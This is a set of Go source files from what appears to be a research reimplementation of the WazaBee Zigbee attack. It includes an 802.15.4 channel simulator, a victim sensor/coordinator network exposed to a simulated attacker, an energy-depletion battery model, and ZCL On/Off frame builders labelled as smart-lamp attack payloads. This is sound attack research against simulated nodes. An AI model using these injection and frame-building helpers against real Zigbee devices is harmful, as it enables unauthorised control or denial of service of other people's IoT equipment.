	if err != nil {
		return FrameOutcome{}, err
	}
	inBand, _ := passband(spec.TxFreqMHz, spec.RxFreqMHz)
	out := FrameOutcome{InBand: inBand}
	psdu, derr := c.ep.Demodulate(capture)
	if derr != nil {
		out.DecodeErr = derr
		return out, nil
	}
	out.PSDU = psdu
	out.Valid = bitstream.CheckFCS(psdu) && bytes.Equal(psdu, spec.PSDU)
	return out, nil
}

// symbolChannel is the calibrated middle tier: chip errors are drawn per
// symbol from the profile's distance distribution and decided by the
// real minimum-distance despreader. Because the 802.15.4 PN codewords
// sit at least 12 chips apart, up to 5 chip errors always decode
// correctly without consulting the despreader at all; only heavier hits
// pay for a nearest-codeword search over actually-flipped chips.
type symbolChannel struct {
	m    *Medium
	prof *CalProfile
}

func (c *symbolChannel) Fidelity() Fidelity { return FidelitySymbol }

func (c *symbolChannel) Deliver(spec FrameSpec) (FrameOutcome, error) {
	reg := obs.Or(c.m.Obs)
	inBand, adjacent := passband(spec.TxFreqMHz, spec.RxFreqMHz)
	if !inBand {
		reg.Counter("wazabee_medium_bursts_total", "path", "symbol_out_of_band").Inc()
		return FrameOutcome{}, nil
	}
	psduLen := spec.psduLen()
	if psduLen < 0 || psduLen > 127 {
		return FrameOutcome{}, fmt.Errorf("radio: PSDU length %d out of [0,127]", psduLen)
	}

	eff := spec.Link.SNRdB
	if adjacent {
		eff -= 20 // Deliver's 0.1 amplitude scale on the adjacent-channel skirt
	}
	cell := c.prof.Lookup(eff, spec.Link.CFOHz, c.m.wifiWeight(spec.RxFreqMHz, spec.Link.InterferenceRejectionDB))

	rng := seedStream{state: spec.Seed}
	out := FrameOutcome{InBand: true}
	if rng.float64() < cell.SyncFail {
		// Sync failure, mid-frame abort or quality-gate drop: the
		// receiver hands back nothing. The calibration pass folds all
		// three into SyncFail, so the gate is not re-applied here.
		out.DecodeErr = ieee802154.ErrNoSync
		reg.Counter("wazabee_medium_symbol_erased_total").Inc()
		return out, nil
	}

	decodeSym := func(txSym int) (int, error) {
		k := drawDist(&rng, &cell.Dist)
		out.ChipErrors += k
		if k <= 5 {
			return txSym, nil
		}
		chips, err := ieee802154.PNSequence(txSym)
		if err != nil {
			return 0, err
		}
		// Flip k distinct chips via a partial Fisher-Yates shuffle.
		var idx [32]int
		for i := range idx {
			idx[i] = i
		}
		for i := 0; i < k && i < len(idx); i++ {
			j := i + rng.intn(len(idx)-i)
			idx[i], idx[j] = idx[j], idx[i]
			chips[idx[i]] ^= 1
		}
		got, _, err := ieee802154.ClosestSymbol(chips)
		return got, err
	}

	// PHR first: a mis-despread length field derails the whole frame
	// (the receiver reads the wrong number of octets), which the IQ
	// chain reports as a decode failure, not a corrupted PSDU.
	phr := psduLen & 0x7F
	for _, txSym := range [2]int{phr & 0x0F, phr >> 4} {
		got, err := decodeSym(txSym)
		if err != nil {
			return FrameOutcome{}, err
		}
		if got != txSym {
			out.DecodeErr = ieee802154.ErrNoSync
			reg.Counter("wazabee_medium_symbol_erased_total").Inc()
			return out, nil
		}
	}

	clean := true
	decoded := make([]byte, psduLen)
	for i := range decoded {
		var txb byte
		if spec.PSDU != nil {
			txb = spec.PSDU[i]
		}
		lo, err := decodeSym(int(txb & 0x0F))
		if err != nil {
			return FrameOutcome{}, err
		}
		hi, err := decodeSym(int(txb >> 4))
		if err != nil {
			return FrameOutcome{}, err
		}
		decoded[i] = byte(lo) | byte(hi)<<4
		if decoded[i] != txb {
			clean = false
		}
	}
	out.PSDU = decoded
	if spec.PSDU != nil {
		out.Valid = clean && bitstream.CheckFCS(decoded)
	} else {
		out.Valid = clean
	}
	reg.Counter("wazabee_medium_bursts_total", "path", "symbol_in_band").Inc()
	if !out.Valid {
		reg.Counter("wazabee_medium_symbol_erased_total").Inc()
	}
	return out, nil
}

// frameChannel is the cheapest tier: the symbol tier's statistics are
// collapsed to one closed-form per-frame success probability and a
// single uniform draw. It is what DeliverVirtual and the mesh
// simulator's erasure model run on.
type frameChannel struct {
	m    *Medium
	prof *CalProfile

	// memo caches the most recent operating point → probability mapping;
	// virtual meshes deliver millions of frames at a handful of distinct
	// operating points, so one entry captures nearly every lookup.
	mu   sync.Mutex
	memo struct {
		valid          bool
		eff, cfo, wifi float64
		psduLen        int
		prob           float64
	}
}

func (c *frameChannel) Fidelity() Fidelity { return FidelityFrame }

// successProb computes P[frame decodes] at an operating point: the
// calibrated sync-success probability times the per-symbol decode
// probability raised to the frame's symbol count (PHR + PSDU at two
// symbols per octet).
func (c *frameChannel) successProb(eff, cfo, wifi float64, psduLen int) float64 {
	c.mu.Lock()
	defer c.mu.Unlock()
	m := &c.memo
	if m.valid && m.eff == eff && m.cfo == cfo && m.wifi == wifi && m.psduLen == psduLen {
		return m.prob
	}
	cell := c.prof.Lookup(eff, cfo, wifi)
	correct := symbolCorrectProbTable()
	s := 0.0
	for k, p := range cell.Dist {
		s += p * correct[k]
	}
	symbols := 2 * (psduLen + 1)
	prob := (1 - cell.SyncFail) * math.Pow(s, float64(symbols))
	m.eff, m.cfo, m.wifi, m.psduLen, m.prob, m.valid = eff, cfo, wifi, psduLen, prob, true
	return prob
}

func (c *frameChannel) Deliver(spec FrameSpec) (FrameOutcome, error) {
	reg := obs.Or(c.m.Obs)
	inBand, adjacent := passband(spec.TxFreqMHz, spec.RxFreqMHz)
	if !inBand {
		reg.Counter("wazabee_medium_bursts_total", "path", "virtual_out_of_band").Inc()
		return FrameOutcome{}, nil
	}
	eff := spec.Link.SNRdB
	if adjacent {
		eff -= 20
	}
	prob := c.successProb(eff, math.Abs(spec.Link.CFOHz),
		c.m.wifiWeight(spec.RxFreqMHz, spec.Link.InterferenceRejectionDB), spec.psduLen())

	rng := seedStream{state: spec.Seed}
	out := FrameOutcome{InBand: true, SuccessProb: prob}
	if rng.float64() < prob {
		out.Valid = true
		out.PSDU = spec.PSDU
		reg.Counter("wazabee_medium_bursts_total", "path", "virtual_in_band").Inc()
	} else {
		// At frame granularity an erasure is indistinguishable from a
		// sync failure: nothing reaches the MAC.
		out.DecodeErr = ieee802154.ErrNoSync
		reg.Counter("wazabee_medium_virtual_erased_total").Inc()
	}
	return out, nil
}

// SymbolCorrectProb returns P[symbol decodes correctly | k chip errors],
// the per-distance decode probability the frame tier folds the
// calibrated distance distribution through. Out-of-range k clamps.
// Exported for the calibration fitter, which needs the same functional
// to keep fitted tables monotone in SNR.
func SymbolCorrectProb(k int) float64 {
	if k < 0 {
		k = 0
	}
	if k > 16 {
		k = 16
	}
	return symbolCorrectProbTable()[k]
}

var symCorrect struct {
	once sync.Once
	p    [17]float64
}

// symbolCorrectProbTable returns P[symbol decodes correctly | k chip
// errors] for k = 0..16. Up to 5 errors always decode (the PN codewords
// are at least 12 chips apart); heavier hits are measured once by a
// fixed-seed Monte-Carlo through the real despreader, so the frame tier
// stays consistent with the symbol tier's decision logic.
func symbolCorrectProbTable() *[17]float64 {
	symCorrect.once.Do(func() {
		for k := 0; k <= 5; k++ {
			symCorrect.p[k] = 1
		}
		const trials = 4096
		for k := 6; k <= 16; k++ {
			rng := seedStream{state: 0xca11b8 + uint64(k)}
			hits := 0
			for t := 0; t < trials; t++ {
				sym := t % 16
				chips, err := ieee802154.PNSequence(sym)
				if err != nil {
					continue
				}
				var idx [32]int
				for i := range idx {
					idx[i] = i
				}
				for i := 0; i < k; i++ {
					j := i + rng.intn(len(idx)-i)
					idx[i], idx[j] = idx[j], idx[i]
					chips[idx[i]] ^= 1
				}
				got, _, err := ieee802154.ClosestSymbol(chips)
				if err == nil && got == sym {
					hits++
				}
			}
			symCorrect.p[k] = float64(hits) / trials
		}
	})
	return &symCorrect.p
}
