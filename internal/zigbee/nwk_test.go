package zigbee

import (
	"bytes"
	"testing"
	"testing/quick"
)

func TestNWKFrameRoundTrip(t *testing.T) {
	dest := uint64(0x00124b0000000042)
	src := uint64(0x00124b0000000063)
	tests := []struct {
		name string
		give *NWKFrame
	}{
		{name: "plain data", give: &NWKFrame{
			Type: NWKData, DestAddr: 0x0042, SrcAddr: 0x0063, Radius: 30, Seq: 7,
			Payload: []byte{1, 2, 3},
		}},
		{name: "command with flags", give: &NWKFrame{
			Type: NWKCommand, DiscoverRoute: true, Security: true,
			DestAddr: 0xfffc, SrcAddr: 0x0000, Radius: 1, Seq: 200,
			Payload: []byte{0x05},
		}},
		{name: "with ieee addresses", give: &NWKFrame{
			Type: NWKData, DestAddr: 1, SrcAddr: 2, Radius: 5, Seq: 9,
			DestIEEE: &dest, SrcIEEE: &src,
			Payload: []byte{0xaa},
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			raw, err := tt.give.Encode()
			if err != nil {
				t.Fatal(err)
			}
			got, err := ParseNWKFrame(raw)
			if err != nil {
				t.Fatal(err)
			}
			if got.Type != tt.give.Type || got.DestAddr != tt.give.DestAddr || got.SrcAddr != tt.give.SrcAddr {
				t.Errorf("header mismatch: %+v", got)
			}
			if got.Radius != tt.give.Radius || got.Seq != tt.give.Seq {
				t.Errorf("radius/seq mismatch: %+v", got)
			}
			if got.Security != tt.give.Security || got.DiscoverRoute != tt.give.DiscoverRoute {
				t.Errorf("flags mismatch: %+v", got)
			}
			if (got.DestIEEE == nil) != (tt.give.DestIEEE == nil) {
				t.Fatal("DestIEEE presence mismatch")
			}
			if got.DestIEEE != nil && *got.DestIEEE != *tt.give.DestIEEE {
				t.Errorf("DestIEEE = %#x", *got.DestIEEE)
			}
			if got.SrcIEEE != nil && *got.SrcIEEE != *tt.give.SrcIEEE {
				t.Errorf("SrcIEEE = %#x", *got.SrcIEEE)
			}
			if !bytes.Equal(got.Payload, tt.give.Payload) {
				t.Errorf("payload mismatch")
			}
		})
	}
}

func TestNWKFrameErrors(t *testing.T) {
	if _, err := (&NWKFrame{Type: 3}).Encode(); err == nil {
		t.Error("expected error for invalid type")
	}
	if _, err := ParseNWKFrame([]byte{1, 2, 3}); err == nil {
		t.Error("expected error for short frame")
	}
	// Wrong protocol version.
	bad := make([]byte, 8)
	bad[0] = 0x0c // version 3
	if _, err := ParseNWKFrame(bad); err == nil {
		t.Error("expected error for protocol version")
	}
	// Truncated IEEE fields.
	frame := &NWKFrame{Type: NWKData, Payload: nil}
	addr := uint64(1)
	frame.DestIEEE = &addr
	raw, err := frame.Encode()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := ParseNWKFrame(raw[:9]); err == nil {
		t.Error("expected error for truncated DestIEEE")
	}
	frame.DestIEEE = nil
	frame.SrcIEEE = &addr
	raw, err = frame.Encode()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := ParseNWKFrame(raw[:9]); err == nil {
		t.Error("expected error for truncated SrcIEEE")
	}
}

func TestAPSFrameRoundTrip(t *testing.T) {
	f := func(destEP, srcEP, counter uint8, cluster, profile uint16, payload []byte) bool {
		give := &APSFrame{
			Type:         APSData,
			AckRequest:   counter%2 == 0,
			DestEndpoint: destEP,
			ClusterID:    cluster,
			ProfileID:    profile,
			SrcEndpoint:  srcEP,
			Counter:      counter,
			Payload:      payload,
		}
		raw, err := give.Encode()
		if err != nil {
			return false
		}
		got, err := ParseAPSFrame(raw)
		if err != nil {
			return false
		}
		return got.DestEndpoint == destEP && got.SrcEndpoint == srcEP &&
			got.ClusterID == cluster && got.ProfileID == profile &&
			got.Counter == counter && got.AckRequest == give.AckRequest &&
			bytes.Equal(got.Payload, payload)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestAPSFrameErrors(t *testing.T) {
	if _, err := (&APSFrame{Type: 5}).Encode(); err == nil {
		t.Error("expected error for invalid APS type")
	}
	if _, err := ParseAPSFrame([]byte{1}); err == nil {
		t.Error("expected error for short APS frame")
	}
}

func TestZigbeeDataFrameStack(t *testing.T) {
	raw, err := BuildZigbeeDataFrame(7, 3, 0x0042, 0x0063, ClusterTemperature, []byte{0x17, 0x00})
	if err != nil {
		t.Fatal(err)
	}
	nwk, aps, err := ParseZigbeeDataFrame(raw)
	if err != nil {
		t.Fatal(err)
	}
	if nwk.DestAddr != 0x0042 || nwk.SrcAddr != 0x0063 || nwk.Seq != 7 {
		t.Errorf("NWK = %+v", nwk)
	}
	if aps.ClusterID != ClusterTemperature || aps.ProfileID != ProfileHomeAutomation || aps.Counter != 3 {
		t.Errorf("APS = %+v", aps)
	}
	if !bytes.Equal(aps.Payload, []byte{0x17, 0x00}) {
		t.Errorf("ZCL payload = % x", aps.Payload)
	}
}

func TestParseZigbeeDataFrameErrors(t *testing.T) {
	if _, _, err := ParseZigbeeDataFrame([]byte{1}); err == nil {
		t.Error("expected error for garbage")
	}
	cmd := &NWKFrame{Type: NWKCommand, Payload: []byte{1}}
	raw, err := cmd.Encode()
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := ParseZigbeeDataFrame(raw); err == nil {
		t.Error("expected error for NWK command frame")
	}
	data := &NWKFrame{Type: NWKData, Payload: []byte{1, 2}} // APS too short
	raw, err = data.Encode()
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := ParseZigbeeDataFrame(raw); err == nil {
		t.Error("expected error for truncated APS")
	}
}
