package zigbee

import (
	"errors"
	"testing"
	"time"

	"wazabee/internal/ieee802154"
	vsim "wazabee/internal/zigbee/sim"
)

func TestStartLiveValidation(t *testing.T) {
	sim, err := NewSimulation(41, 8, 25)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := StartLive(nil, time.Millisecond, DefaultChannel); err == nil {
		t.Error("expected error for nil simulation")
	}
	if _, err := StartLive(sim, 0, DefaultChannel); err == nil {
		t.Error("expected error for zero interval")
	}
	if _, err := StartLive(sim, time.Millisecond, 99); err == nil {
		t.Error("expected error for invalid channel")
	}
}

func TestLiveNetworkStreamsCaptures(t *testing.T) {
	sim, err := NewSimulation(42, 8, 25)
	if err != nil {
		t.Fatal(err)
	}
	live, err := StartLive(sim, 2*time.Millisecond, DefaultChannel)
	if err != nil {
		t.Fatal(err)
	}
	defer live.Shutdown()

	received := 0
	deadline := time.After(3 * time.Second)
	for received < 3 {
		select {
		case capture, ok := <-live.Captures():
			if !ok {
				t.Fatalf("capture stream closed early (err=%v)", live.Err())
			}
			if capture.Channel != DefaultChannel {
				t.Errorf("capture channel %d, want %d", capture.Channel, DefaultChannel)
			}
			if capture.Seq != uint64(received) {
				t.Errorf("capture seq %d, want %d", capture.Seq, received)
			}
			if capture.At.IsZero() {
				t.Error("capture has no timestamp")
			}
			dem, err := sim.PHY.Demodulate(capture.IQ)
			if err != nil {
				t.Fatalf("capture %d undecodable: %v", received, err)
			}
			frame, err := ieee802154.ParseMACFrame(dem.PPDU.PSDU)
			if err != nil {
				t.Fatal(err)
			}
			if frame.SrcAddr != DefaultSensor {
				t.Errorf("capture from %#04x, want sensor", frame.SrcAddr)
			}
			received++
		case <-deadline:
			t.Fatalf("only %d captures within deadline", received)
		}
	}
	if live.Err() != nil {
		t.Errorf("live network error: %v", live.Err())
	}
}

func TestLiveNetworkShutdownIdempotent(t *testing.T) {
	sim, err := NewSimulation(43, 8, 25)
	if err != nil {
		t.Fatal(err)
	}
	live, err := StartLive(sim, time.Millisecond, DefaultChannel)
	if err != nil {
		t.Fatal(err)
	}
	live.Shutdown()
	live.Shutdown() // must not panic or block

	// After shutdown the capture stream drains and closes.
	for range live.Captures() {
	}
	// The coordinator recorded whatever periods elapsed; the simulation
	// is usable again.
	if _, err := sim.Step(DefaultChannel); err != nil {
		t.Fatal(err)
	}
}

func TestLiveNetworkSurfacesErrors(t *testing.T) {
	sim, err := NewSimulation(44, 8, 25)
	if err != nil {
		t.Fatal(err)
	}
	// Sabotage the sensor so Step fails: an invalid channel makes
	// channelFreq error out.
	sim.Sensor.Channel = 99
	live, err := StartLive(sim, time.Millisecond, DefaultChannel)
	if err != nil {
		t.Fatal(err)
	}
	deadline := time.After(3 * time.Second)
	for {
		select {
		case _, ok := <-live.Captures():
			if !ok {
				if live.Err() == nil {
					t.Fatal("stream closed without surfacing the error")
				}
				live.Shutdown() // still safe after an error exit
				return
			}
		case <-deadline:
			t.Fatal("error was never surfaced")
		}
	}
}

func TestLiveNetworkStopWhileBlocked(t *testing.T) {
	sim, err := NewSimulation(45, 8, 25)
	if err != nil {
		t.Fatal(err)
	}
	// Drive the pacer with a manual clock instead of sleeping and hoping
	// the producer reached the blocked state: each Advance fires exactly
	// one reporting tick, so the producer's position is known at every
	// step of the test.
	clock := vsim.NewManualClock()
	live, err := startLive(sim, time.Millisecond, DefaultChannel, 0, clock)
	if err != nil {
		t.Fatal(err)
	}
	// Never consume captures. Tick 1 fills the one-slot channel buffer;
	// tick 2 blocks the producer mid-send.
	clock.AwaitTimers(1)
	clock.Advance(time.Millisecond)
	clock.AwaitTimers(2)
	clock.Advance(time.Millisecond)
	// A shutdown must still complete promptly, whether the producer is
	// mid-send or between events.
	done := make(chan struct{})
	go func() {
		live.Shutdown()
		close(done)
	}()
	select {
	case <-done:
	case <-time.After(2 * time.Second):
		t.Fatal("Shutdown blocked on an unconsumed capture")
	}
	if err := live.Err(); err != nil && !errors.Is(err, nil) {
		t.Errorf("unexpected error: %v", err)
	}
}
