package zigbee

import (
	"fmt"

	"wazabee/internal/dsp"
	"wazabee/internal/ieee802154"
	"wazabee/internal/radio"
)

// Simulation couples the victim network (sensor + coordinator) to a
// shared radio medium so that an attacker can interact with it purely
// through waveforms, the way the scenario B tracker does over the air.
type Simulation struct {
	Medium      *radio.Medium
	PHY         *ieee802154.PHY
	Sensor      *Sensor
	Coordinator *Coordinator

	// AttackerLink describes propagation between the attacker and the
	// victims; VictimLink the sensor↔coordinator path.
	AttackerLink radio.Link
	VictimLink   radio.Link

	// noiseFloorPower is returned power when the attacker listens to an
	// idle channel.
	noiseFloorPower float64

	// vch, when non-nil, replaces the victim-to-victim IQ path with a
	// calibrated fidelity tier (SetFidelity). The attacker's capture is
	// always synthesised at IQ fidelity — WazaBee receivers need real
	// waveforms.
	vch radio.Channel
	// vSeq numbers victim deliveries so each draws from its own seed
	// stream, independent of the medium's shared Rand.
	vSeq uint64
	// seed is the medium's seed, retained for victim delivery seeds.
	seed int64
}

// NewSimulation builds the default experimental network over a fresh
// medium: PAN 0x1234, sensor 0x0063 reporting to coordinator 0x0042 on
// channel 14.
func NewSimulation(seed int64, samplesPerChip int, snrDB float64) (*Simulation, error) {
	phy, err := ieee802154.NewPHY(samplesPerChip)
	if err != nil {
		return nil, err
	}
	sampleRate := float64(samplesPerChip) * ieee802154.ChipRate
	medium, err := radio.NewMedium(sampleRate, seed)
	if err != nil {
		return nil, err
	}
	link := radio.Link{SNRdB: snrDB, LeadSamples: 200, LagSamples: 120}
	return &Simulation{
		Medium:          medium,
		PHY:             phy,
		Sensor:          NewSensor(),
		Coordinator:     NewCoordinator(),
		AttackerLink:    link,
		VictimLink:      link,
		noiseFloorPower: 1e-3,
		seed:            seed,
	}, nil
}

// SetFidelity selects the delivery tier of the sensor→coordinator path.
// FidelityIQ (the default) synthesises and demodulates the waveform;
// FidelitySymbol and FidelityFrame replace that with a draw from the
// calibrated channel model, which skips one demodulation per reporting
// period. The attacker-facing capture keeps IQ fidelity regardless — the
// tiers only ever shortcut traffic no attacker observes directly.
func (s *Simulation) SetFidelity(f radio.Fidelity) error {
	if f == 0 || f == radio.FidelityIQ {
		s.vch = nil
		return nil
	}
	ch, err := s.Medium.Channel(f, radio.ChannelOptions{Profile: radio.ProfileOQPSK})
	if err != nil {
		return err
	}
	s.vch = ch
	return nil
}

// victimSeed derives the private seed of one victim-to-victim delivery
// from the simulation seed and the delivery's sequence number, following
// the SplitMix64 discipline of internal/zigbee/sim.
func victimSeed(seed int64, n uint64) uint64 {
	mix := func(x uint64) uint64 {
		x += 0x9e3779b97f4a7c15
		x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9
		x = (x ^ (x >> 27)) * 0x94d049bb133111eb
		return x ^ (x >> 31)
	}
	return mix(mix(uint64(seed)^0x71c7) ^ n)
}

func channelFreq(channel int) (float64, error) {
	return ieee802154.ChannelFrequencyMHz(channel)
}

// idle returns a noise-only capture of n samples.
func (s *Simulation) idle(n int) (dsp.IQ, error) {
	return dsp.NoiseFloor(n, s.noiseFloorPower, s.Medium.Rand())
}

// transmitFrame modulates a MAC frame and returns its waveform.
func (s *Simulation) transmitFrame(f *ieee802154.MACFrame) (dsp.IQ, error) {
	psdu, err := f.Encode()
	if err != nil {
		return nil, err
	}
	ppdu, err := ieee802154.NewPPDU(psdu)
	if err != nil {
		return nil, err
	}
	return s.PHY.Modulate(ppdu)
}

// receiveFrame demodulates a delivered capture into a MAC frame; it
// returns nil when nothing decodes (sync loss or FCS failure), as a real
// node would silently drop such traffic.
func (s *Simulation) receiveFrame(capture dsp.IQ) *ieee802154.MACFrame {
	dem, err := s.PHY.Demodulate(capture)
	if err != nil {
		return nil
	}
	frame, err := ieee802154.ParseMACFrame(dem.PPDU.PSDU)
	if err != nil {
		return nil
	}
	return frame
}

// Step advances one sensor reporting period: the sensor transmits its
// reading, the coordinator (when co-channel) receives, records and
// acknowledges it. The returned capture is what an attacker listening on
// captureChannel hears during the period.
func (s *Simulation) Step(captureChannel int) (dsp.IQ, error) {
	capFreq, err := channelFreq(captureChannel)
	if err != nil {
		return nil, err
	}
	sensorFreq, err := channelFreq(s.Sensor.Channel)
	if err != nil {
		return nil, err
	}

	frame, err := s.Sensor.NextDataFrame()
	if err != nil {
		return nil, err
	}
	sig, err := s.transmitFrame(frame)
	if err != nil {
		return nil, err
	}

	// Victim-to-victim delivery: through the full IQ path by default, or
	// through the calibrated tier selected by SetFidelity.
	if s.Coordinator.Channel == s.Sensor.Channel {
		var rx *ieee802154.MACFrame
		if s.vch != nil {
			psdu, err := frame.Encode()
			if err != nil {
				return nil, err
			}
			s.vSeq++
			out, err := s.vch.Deliver(radio.FrameSpec{
				PSDU:      psdu,
				TxFreqMHz: sensorFreq,
				RxFreqMHz: sensorFreq,
				Link:      s.VictimLink,
				Seed:      victimSeed(s.seed, s.vSeq),
			})
			if err != nil {
				return nil, err
			}
			if out.Delivered() {
				if f, err := ieee802154.ParseMACFrame(out.PSDU); err == nil {
					rx = f
				}
			}
		} else {
			coordCapture, err := s.Medium.Deliver(sig, sensorFreq, sensorFreq, s.VictimLink)
			if err != nil {
				return nil, err
			}
			rx = s.receiveFrame(coordCapture)
		}
		if rx != nil {
			if _, err := s.Coordinator.Handle(rx); err != nil {
				return nil, err
			}
		}
	}

	// Attacker's capture of the same transmission.
	return s.Medium.Deliver(sig, sensorFreq, capFreq, s.AttackerLink)
}

// Capture listens on a channel for one sensor period without injecting
// anything (scenario B's eavesdropping step).
func (s *Simulation) Capture(channel int) (dsp.IQ, error) {
	return s.Step(channel)
}

// Default extended (64-bit) addresses of the victim nodes, used as CCM*
// nonce sources when the network is secured.
const (
	DefaultSensorExt      = 0x00124b0000000063
	DefaultCoordinatorExt = 0x00124b0000000042
)

// Secure enables link-layer security on the victim network: both nodes
// share the 16-byte network key and protect their application payloads
// with the given CCM* level.
func (s *Simulation) Secure(key []byte, level ieee802154.SecurityLevel) error {
	sensorCtx, err := NewSecurityContext(key, DefaultSensorExt, level)
	if err != nil {
		return err
	}
	coordCtx, err := NewSecurityContext(key, DefaultCoordinatorExt, level)
	if err != nil {
		return err
	}
	s.Sensor.Security = sensorCtx
	s.Coordinator.Security = coordCtx
	return nil
}

// Exchange transmits an attacker waveform on a channel, lets every victim
// tuned there react, and returns the attacker's capture of the first
// reply. A channel with no responding victim returns a noise-only
// capture, like a real listen window timing out.
func (s *Simulation) Exchange(sig dsp.IQ, channel int) (dsp.IQ, error) {
	if len(sig) == 0 {
		return nil, fmt.Errorf("zigbee: empty attacker transmission")
	}
	freq, err := channelFreq(channel)
	if err != nil {
		return nil, err
	}

	var reply *ieee802154.MACFrame
	deliverTo := func(nodeChannel int, handle func(*ieee802154.MACFrame) (*ieee802154.MACFrame, error)) error {
		if nodeChannel != channel {
			return nil
		}
		capture, err := s.Medium.Deliver(sig, freq, freq, s.AttackerLink)
		if err != nil {
			return err
		}
		rx := s.receiveFrame(capture)
		if rx == nil {
			return nil
		}
		resp, err := handle(rx)
		if err != nil {
			return err
		}
		if resp != nil && reply == nil {
			reply = resp
		}
		return nil
	}

	if err := deliverTo(s.Coordinator.Channel, s.Coordinator.Handle); err != nil {
		return nil, err
	}
	if err := deliverTo(s.Sensor.Channel, s.Sensor.Handle); err != nil {
		return nil, err
	}

	if reply == nil {
		return s.idle(len(sig))
	}
	replySig, err := s.transmitFrame(reply)
	if err != nil {
		return nil, err
	}
	return s.Medium.Deliver(replySig, freq, freq, s.AttackerLink)
}
