package zigbee

import "fmt"

// Battery models the energy budget of a battery-powered end device, the
// asset the Ghost-in-ZigBee energy-depletion attack ([30] in the paper)
// drains: every received frame costs radio energy, and on a secured
// network every *bogus* frame additionally burns a CCM* verification
// before it can be discarded — which is why section VII notes that
// cryptography does not stop denial of service.
type Battery struct {
	// RemainingMicroJ is the remaining energy budget.
	RemainingMicroJ float64
	// RxCostMicroJ and TxCostMicroJ price one frame reception or
	// transmission.
	RxCostMicroJ float64
	TxCostMicroJ float64
	// CryptoCostMicroJ prices one CCM* verification attempt.
	CryptoCostMicroJ float64
}

// NewBattery returns a battery with costs loosely shaped on a coin-cell
// sensor node (values are relative; only ratios matter to the
// experiments).
func NewBattery(capacityMicroJ float64) (*Battery, error) {
	if capacityMicroJ <= 0 {
		return nil, fmt.Errorf("zigbee: non-positive battery capacity %g", capacityMicroJ)
	}
	return &Battery{
		RemainingMicroJ:  capacityMicroJ,
		RxCostMicroJ:     40,
		TxCostMicroJ:     50,
		CryptoCostMicroJ: 15,
	}, nil
}

// Drain subtracts cost, flooring at zero.
func (b *Battery) Drain(costMicroJ float64) {
	b.RemainingMicroJ -= costMicroJ
	if b.RemainingMicroJ < 0 {
		b.RemainingMicroJ = 0
	}
}

// Depleted reports whether the node is dead.
func (b *Battery) Depleted() bool {
	return b.RemainingMicroJ <= 0
}
