package zigbee

// Zigbee Cluster Library (ZCL) framing: the application payloads real
// smart-home traffic carries inside APS frames. With this layer the
// attack demos speak complete Zigbee — the "IoT goes nuclear" chain
// reaction the paper cites ([4]) was ZCL on/off traffic to smart lamps.

import (
	"encoding/binary"
	"fmt"
)

// ZCLFrameType distinguishes profile-wide from cluster-specific commands.
type ZCLFrameType uint8

const (
	// ZCLProfileWide commands (read/write/report attributes) work on
	// every cluster.
	ZCLProfileWide ZCLFrameType = 0
	// ZCLClusterSpecific commands belong to one cluster (On/Off's
	// toggle, for instance).
	ZCLClusterSpecific ZCLFrameType = 1
)

// Profile-wide command identifiers.
const (
	ZCLCmdReportAttributes = 0x0a
)

// On/Off cluster command identifiers.
const (
	OnOffCmdOff    = 0x00
	OnOffCmdOn     = 0x01
	OnOffCmdToggle = 0x02
)

// ZCL attribute data types used here.
const (
	ZCLTypeInt16 = 0x29
)

// ZCLFrame is a cluster-library frame.
type ZCLFrame struct {
	Type ZCLFrameType
	// ManufacturerCode, when non-nil, marks a manufacturer-specific
	// extension.
	ManufacturerCode *uint16
	// Direction reports server-to-client when true.
	Direction bool
	// DisableDefaultResponse suppresses the default response.
	DisableDefaultResponse bool
	// Seq is the transaction sequence number.
	Seq uint8
	// Command is the command identifier.
	Command uint8
	Payload []byte
}

// Encode serialises the ZCL frame.
func (f *ZCLFrame) Encode() ([]byte, error) {
	if f.Type > ZCLClusterSpecific {
		return nil, fmt.Errorf("zigbee: invalid ZCL frame type %d", f.Type)
	}
	fcf := uint8(f.Type)
	if f.ManufacturerCode != nil {
		fcf |= 1 << 2
	}
	if f.Direction {
		fcf |= 1 << 3
	}
	if f.DisableDefaultResponse {
		fcf |= 1 << 4
	}
	out := make([]byte, 0, 5+len(f.Payload))
	out = append(out, fcf)
	if f.ManufacturerCode != nil {
		out = binary.LittleEndian.AppendUint16(out, *f.ManufacturerCode)
	}
	out = append(out, f.Seq, f.Command)
	return append(out, f.Payload...), nil
}

// ParseZCLFrame decodes a ZCL frame.
func ParseZCLFrame(data []byte) (*ZCLFrame, error) {
	if len(data) < 3 {
		return nil, fmt.Errorf("zigbee: ZCL frame too short (%d bytes)", len(data))
	}
	fcf := data[0]
	f := &ZCLFrame{
		Type:                   ZCLFrameType(fcf & 0x3),
		Direction:              fcf&(1<<3) != 0,
		DisableDefaultResponse: fcf&(1<<4) != 0,
	}
	if f.Type > ZCLClusterSpecific {
		return nil, fmt.Errorf("zigbee: invalid ZCL frame type %d", f.Type)
	}
	off := 1
	if fcf&(1<<2) != 0 {
		if len(data) < 5 {
			return nil, fmt.Errorf("zigbee: truncated manufacturer code")
		}
		code := binary.LittleEndian.Uint16(data[1:3])
		f.ManufacturerCode = &code
		off = 3
	}
	if len(data) < off+2 {
		return nil, fmt.Errorf("zigbee: truncated ZCL header")
	}
	f.Seq = data[off]
	f.Command = data[off+1]
	f.Payload = append([]byte{}, data[off+2:]...)
	return f, nil
}

// BuildOnOffCommand builds the full NWK/APS/ZCL stack for an On/Off
// cluster command (the smart-lamp attack payload).
func BuildOnOffCommand(nwkSeq, apsCounter, zclSeq uint8, dest, src uint16, command uint8) ([]byte, error) {
	if command > OnOffCmdToggle {
		return nil, fmt.Errorf("zigbee: invalid on/off command %#02x", command)
	}
	zcl := &ZCLFrame{
		Type:                   ZCLClusterSpecific,
		DisableDefaultResponse: true,
		Seq:                    zclSeq,
		Command:                command,
	}
	payload, err := zcl.Encode()
	if err != nil {
		return nil, err
	}
	return buildClusterFrame(nwkSeq, apsCounter, dest, src, ClusterOnOff, payload)
}

// BuildTemperatureReport builds a temperature-measurement attribute
// report (centi-degrees Celsius), the payload of a sensor node.
func BuildTemperatureReport(nwkSeq, apsCounter, zclSeq uint8, dest, src uint16, centiCelsius int16) ([]byte, error) {
